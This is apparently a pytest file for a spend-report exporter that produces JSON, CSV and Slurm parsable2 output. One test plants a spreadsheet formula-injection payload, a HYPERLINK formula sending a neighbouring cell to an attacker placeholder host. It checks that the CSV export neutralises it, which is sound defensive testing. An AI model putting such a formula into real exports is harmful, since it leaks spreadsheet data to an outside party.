"""The three formats, byte for byte: json, csv and Slurm's parsable2."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import orjson
import pytest

from fairgate.accounting import (
    SpendReport,
    SpendRow,
    check_format,
    gpu_hours,
    render,
    to_csv,
    to_json,
    to_parsable2,
)
from fairgate.core.errors import BadRequest

START = datetime(2025, 10, 1, tzinfo=UTC)
END = datetime(2025, 11, 1, tzinfo=UTC)


def report(group_by: tuple[str, ...], *rows: SpendRow) -> SpendReport:
    total = SpendRow((), 9, 9, 9, 9, 9, 9)
    return SpendReport(START, END, group_by, rows, total)


ROWS = (
    SpendRow(("A", "a1"), 3, 1200, 300, 200, 960, 1),
    SpendRow(("B", None), 1, 0, 0, 0, 12_345_678, 0),
)


def test_parsable2_is_a_header_then_pipe_separated_lines_without_a_trailing_pipe() -> None:
    assert to_parsable2(report(("org", "team"), *ROWS)) == (
        "org|team|requests|prompt_tokens|completion_tokens|cached_tokens|gpu_hours|"
        "estimated_requests\n"
        "A|a1|3|1200|300|200|0.000960|1\n"
        "B||1|0|0|0|12.345678|0\n"
    )


def test_parsable2_keeps_every_line_splittable_whatever_a_value_holds() -> None:
    odd = SpendRow(("x|y", "two\nlines"), 1, 0, 0, 0, 0, 0)
    text = to_parsable2(report(("tag", "model"), odd))
    header, line = text.splitlines()
    assert line == "x_y|two_lines|1|0|0|0|0.000000|0"
    assert len(line.split("|")) == len(header.split("|")) == 8


def test_an_empty_report_is_its_header_line() -> None:
    assert to_parsable2(report(("org",))) == (
        "org|requests|prompt_tokens|completion_tokens|cached_tokens|gpu_hours|estimated_requests\n"
    )
    assert to_csv(report(())).splitlines() == [
        "requests,prompt_tokens,completion_tokens,cached_tokens,gpu_hours,estimated_requests"
    ]


def test_csv_quotes_what_needs_quoting_and_leaves_unset_values_empty() -> None:
    odd = SpendRow(('a,"b"', None), 2, 5, 6, 7, 1_000_000, 2)
    assert to_csv(report(("tag", "pool"), odd)) == (
        "tag,pool,requests,prompt_tokens,completion_tokens,cached_tokens,gpu_hours,"
        "estimated_requests\n"
        '"a,""b""",,2,5,6,7,1.000000,2\n'
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_value_a_spreadsheet_would_run_as_a_formula_is_text(start: str) -> None:
    """A team admin chooses its keys' tags: a tag like =HYPERLINK(…) in the CSV an org
    admin opens would run in the spreadsheet, with the sheet's other cells to hand."""
    planted = start + 'HYPERLINK("http://attacker.invalid/?"&B2,"x")'
    text = to_csv(report(("tag", "team"), SpendRow((planted, "a1"), 1, 0, 0, 0, 0, 0)))
    [_, cells] = list(csv.reader(io.StringIO(text, newline="")))
    assert cells[:2] == ["'" + planted, "a1"]
    # the formats made for programs keep the value as it is
    as_json = to_json(report(("tag",), SpendRow((planted,), 1, 0, 0, 0, 0, 0)))
    assert orjson.loads(as_json)["data"][0]["tag"] == planted


def test_json_has_the_period_the_rows_and_the_total_with_exact_amounts() -> None:
    body = orjson.loads(to_json(report(("org", "team"), *ROWS)))
    assert body["from"] == "2025-10-01T00:00:00Z" and body["to"] == "2025-11-01T00:00:00Z"
    assert body["group_by"] == ["org", "team"]
    assert body["data"][1] == {
        "org": "B",
        "team": None,
        "requests": 1,
        "prompt_tokens": 0,
        "completion_tokens": 0,
        "cached_tokens": 0,
        "gpu_hours": "12.345678",
        "estimated_requests": 0,
        "cost_micro": 12_345_678,
    }
    assert body["total"]["requests"] == 9 and "org" not in body["total"]


def test_gpu_hours_are_printed_from_integers_with_six_decimals() -> None:
    assert [gpu_hours(m) for m in (0, 1, 999_999, 1_000_000, 10**15 + 1, -5)] == [
        "0.000000",
        "0.000001",
        "0.999999",
        "1.000000",
        "1000000000.000001",
        "-0.000005",
    ]


def test_an_unknown_format_is_a_bad_request() -> None:
    assert render(report(("org",), *ROWS), "csv") == to_csv(report(("org",), *ROWS))
    with pytest.raises(BadRequest) as refused:
        check_format("xml")
    assert refused.value.code == "invalid_format" and "parsable2" in refused.value.message
